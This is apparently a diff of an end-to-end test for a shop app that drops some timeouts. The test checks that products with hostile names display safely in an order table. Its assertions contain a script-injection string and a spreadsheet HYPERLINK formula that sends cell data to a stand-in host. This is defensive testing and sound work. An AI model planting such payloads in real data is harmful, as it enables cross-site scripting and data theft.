@@ -7,7 +7,7 @@ import { overfull } from "#e2e/support/overfull.ts";
 import { resyncCatalog } from "#e2e/support/resyncCatalog.ts";
 
 // The catalogs are switched one after the other on one test stack; afterwards the usual one is back.
-test.describe.configure({ mode: "default", timeout: 120_000 });
+test.describe.configure({ mode: "default" });
 test.afterAll(async ({ stack }) => {
   await stack.control("POST", "reset");
   await resyncCatalog(stack);
@@ -115,9 +115,7 @@ test("products with hostile names can be bought, and draft, review, order and li
   await picksInOrder(page);
   await reviewAndSend(page);
   const reference = await referenceOf(page);
-  await expect(completed(page)).toBeVisible({
-    timeout: 20_000,
-  });
+  await expect(completed(page)).toBeVisible();
   const ordered = page.getByRole("table", { name: "Lines of the order" });
   await expect(ordered).toContainText(`Markup <script>window.hostile=1</script>`);
   await expect(ordered).toContainText(`=HYPERLINK("https://hostile.example/?"&A1,"Formula")`);
